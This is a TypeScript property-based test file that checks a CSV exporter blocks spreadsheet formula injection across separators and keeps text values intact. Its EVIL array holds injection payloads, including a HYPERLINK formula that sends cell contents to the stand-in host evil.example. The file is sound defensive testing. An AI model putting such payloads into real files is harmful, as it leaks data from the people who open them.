import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { expect, test } from 'vitest'
import { csvOf, textCell } from '../../src/contract/csv.ts'
import { anyText } from '../../test/any-text.ts'
import { runs } from '../../test/seed.ts'

const EVIL = [
  'x;=HYPERLINK("http://evil.example/?"&A1,"open")',
  ';=1',
  '\uff1d1',
  '\n=1',
  ' =1',
  '\t@SUM(1)',
  'a,-1',
  'a\r\n+1',
  ',,=1',
  '";"=1',
  "'=1",
]

/** Whether a spreadsheet would calculate a cell. Some trim it, drop quotes around it, and know full-width signs. */
const isFormula = (cell: string) => /^[\s"]*[=+\-@\u2212]/u.test(cell.normalize('NFKC'))

/** The cells for a program with this separator. The file of another one may leave a quote open for it. */
function cellsAt(file: string, delimiter: string): string[][] {
  try {
    return parse(file, { bom: true, delimiter, relax_quotes: true, relax_column_count: true })
  } catch {
    return []
  }
}

test('no cell begins like a formula, whatever the program takes for the separator', () => {
  const piece = fc.oneof(
    fc.constantFrom(...EVIL, ';', ',', '\t', '\n', '"', "'", ' ', '=', '-', '@', '\uff0b'),
    anyText({ maxLength: 4 }),
  )
  fc.assert(
    fc.property(
      fc.array(
        fc.array(piece, { maxLength: 8 }).map((pieces) => pieces.join('')),
        { minLength: 1 },
      ),
      (values) => {
        const file = csvOf([values.map(textCell)])
        expect(file.startsWith('\ufeff')).toBe(true)
        for (const delimiter of [',', ';', '\t']) {
          const rows = cellsAt(file, delimiter)
          expect(rows.flat().filter(isFormula), delimiter).toEqual([])
          // A program that does not know quotes.
          const pieces = file
            .slice(1)
            .split(/\r\n|\r|\n/)
            .flatMap((line) => line.split(delimiter))
          expect(pieces.filter(isFormula), delimiter).toEqual([])
        }
      },
    ),
    runs(2_000),
  )
})

test('no amount is a larger one where a point separates thousands', () => {
  expect(csvOf([['7412.277', '-0.004', '1.5', '12.3456', '"1.234"']])).toBe(
    '\ufeff7412.2770,-0.0040,1.5,12.3456,"1.234"\r\n',
  )
})

test('text is kept: only an apostrophe is added, and digits and dates stay text', () => {
  const read = (value: string) => parse(csvOf([[textCell(value)]]), { bom: true })[0]![0]!
  for (const value of [
    '000123456789',
    '12345678901234567890',
    '3-4',
    '1E5',
    '1.2.2026',
    'MARCH1',
    '2 may',
    'TRUE',
    '(5)',
    ...['12:30', '12am', '3 PM', 'January 5, 2026', '3. M\u00e4rz 2026', 'WAHR', '2026\u5e741\u67081\u65e5'],
    ...['\uff11\uff12', '\u0663\u0664', '\uffe55'],
    ...EVIL,
  ])
    expect(read(value)).toMatch(/'/)
  for (const value of [
    'payout-2026-0001',
    'Caf\u00e9',
    'a, "b"; c\nd',
    '0x52908400098527886E0F7030069857D2E4169EE7',
    'May I?',
  ])
    expect(read(value)).toBe(value)
  fc.assert(
    fc.property(
      anyText({ maxLength: 30 }).filter((text) => text.trim() !== '' && !/['\ufeff]/.test(text)),
      (text) => {
        expect(read(text).replaceAll("'", '')).toBe(text)
      },
    ),
    runs(1_000),
  )
})
